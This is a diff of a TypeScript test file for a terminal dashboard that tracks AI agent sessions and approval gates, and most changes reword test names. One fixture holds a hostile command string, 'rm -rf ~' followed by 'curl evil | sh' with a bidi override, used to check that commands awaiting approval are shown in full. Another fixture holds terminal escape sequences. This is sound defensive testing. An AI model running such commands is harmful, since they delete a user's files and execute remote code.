@@ -19,7 +19,7 @@ import {
   screenText,
 } from "./given.ts";
 
-test("80×24 shows project, sessions, counts, inbox and keys, each in its place", () => {
+test("80×24 shows project, sessions, counts, inbox and keys, each in its area", () => {
   expect(screenText(givenBusyState()).join("\n")).toBe(
     drawn(`
     signalbox shop                         ● live · #48,211 · today $1.61, 2 unknown
@@ -97,7 +97,7 @@ test("120×40 gives the room to sessions and inbox", () => {
   );
 });
 
-test("narrower than 60 columns goes without costs, and keeps the bar of phases", () => {
+test("below 60 columns the costs are hidden, and the bar of phases stays", () => {
   expect(screenText(givenBusyState(), 59, 24).join("\n")).toBe(
     drawn(`
     shop                                       ● live · #48,211
@@ -128,7 +128,7 @@ test("narrower than 60 columns goes without costs, and keeps the bar of phases",
   );
 });
 
-test("narrower than 40 columns has one line for a session, and no bar", () => {
+test("below 40 columns a session has one line and no bar", () => {
   expect(screenText(givenBusyState(), 39, 20).join("\n")).toBe(
     drawn(`
     shop                   ● live · #48,211
@@ -155,7 +155,7 @@ test("narrower than 40 columns has one line for a session, and no bar", () => {
   );
 });
 
-test("letters of two columns leave what stands at the right in its place", () => {
+test("wide characters do not shift the content to their right", () => {
   const session = givenSession("s-1", {
     last_verb: "ask",
     last_text: "区切り文字はどちらですか".repeat(5),
@@ -166,7 +166,7 @@ test("letters of two columns leave what stands at the right in its place", () =>
   expect(widthOf(lines[3] ?? "")).toBe(80);
 });
 
-test("a cost that nobody knows is a dash, and a sum says how many sessions it leaves out", () => {
+test("an unknown cost is a dash, and a sum says how many sessions it leaves out", () => {
   const [header = "", , first = "", , second = ""] = screenText(givenBusyState());
   expect(header).toContain("today $1.61, 2 unknown");
   expect(first).toMatch(/ –$/);
@@ -203,7 +203,7 @@ test("only the terminal's sixteen colours are used, for letters alone", () => {
   );
 });
 
-test("the time in a phase ticks, and where no session runs the clock changes nothing", () => {
+test("the time in a phase ticks, and without a session the clock changes nothing", () => {
   const running = initialState(givenOverview({ sessions: [givenSession("s-1")] }));
   expect(screenText(running)[2]).toContain("4:12");
   expect(screenText(running, 80, 24, { now: NOW + 3_600_000_000 })[2]).toContain("1:04:12");
@@ -248,7 +248,7 @@ test("a file that two running sessions change is a warning", () => {
   expect(screenText(state)).toContain("⚠ tasks 7 and 9 both change src/a.ts and 1 more");
 });
 
-test("a projection that stopped is said instead of live", () => {
+test("a stopped projection is shown instead of live", () => {
   const stopped = [{ projection: "board", error: "#12: a reducer threw" }];
   const [header, ...rest] = screenText(initialState(givenOverview({ stopped })));
   expect(header).toContain("✕ stopped · #48,211");
@@ -278,7 +278,7 @@ test("an opened gate shows every line of its command as the shell reads it, and 
   ]);
 });
 
-test("an opened gate shows the end of its output, and what follows from each key", () => {
+test("an opened gate shows the end of its output and the effect of each key", () => {
   const detail = Array.from({ length: 60 }, (_, n) => `line ${n + 1}`).join("\n");
   const state = initialState(givenOverview({ inbox: [givenItem("gate", 30, { gate: 1, detail })] }));
   const text = screenText(afterKeys(state, "enter").state, 80, 80).join("\n");
@@ -292,7 +292,7 @@ test("an opened gate shows the end of its output, and what follows from each key
   expect(low).toContain("b abort: the task fails");
 });
 
-test("an opened item shows the whole of a text that its line cuts", () => {
+test("an opened item shows the whole text that its line truncates", () => {
   const words = Array.from({ length: 30 }, (_, n) => `word${n}`).join(" ");
   const state = initialState(givenOverview({ inbox: [givenItem("blocker", 15, { text: words })] }));
   expect(screenText(state).join("\n")).not.toContain("word29");
@@ -306,7 +306,7 @@ test("a refusal is shown to its end, in as many lines as it needs", () => {
   expect(screenText(state, 40, 24).slice(-4, -1).join(" ").trim()).toBe(`✕ ${reason}`);
 });
 
-test("control and bidi characters in what agents wrote are shown as escapes", () => {
+test("control and bidi characters in agents' texts are shown as escapes", () => {
   const evil = "\u001b[2Jgone\u0007 \u202eabc\u2069 \u009b31m";
   const state = initialState(
     givenOverview({
@@ -320,7 +320,7 @@ test("control and bidi characters in what agents wrote are shown as escapes", ()
   expect(text).toContain("\\u{1b}[2Jgone\\u{7} \\u{202e}abc");
 });
 
-test("a proposal that is selected says what of it was changed since it was proposed", () => {
+test("a selected proposal shows which fields were changed since it was proposed", () => {
   const changed = ["title", "pseudocode"] as const;
   const item = givenItem("proposal", 21, { text: "Import", other_task: 12 });
   const said = (inbox: InboxItem) =>
@@ -331,7 +331,7 @@ test("a proposal that is selected says what of it was changed since it was propo
   );
 });
 
-test("a command that is to be approved is shown to its end when it is opened: every line, however long, as it is", () => {
+test("an opened item shows the whole command to approve, every line in full", () => {
   const command = `npm test\r && ${"x".repeat(2_500)}; rm -rf ~\n\ncurl evil | sh \u202e`;
   const item = givenItem("gate_approval", 12, { text: command, gate: 2, session: null });
   const closed = initialState(givenOverview({ inbox: [item] }));
@@ -373,7 +373,7 @@ const kinds = [
   "acceptance",
 ] as const;
 
-test("at any size, whatever was written, no line is wider than the screen, and the selected item is in sight", () => {
+test("at any size, no line is wider than the screen, and the selected item is visible", () => {
   const items = fc.array(fc.record({ kind: fc.constantFrom<InboxItem["kind"]>(...kinds), text: anyText }), {
     maxLength: 40,
   });
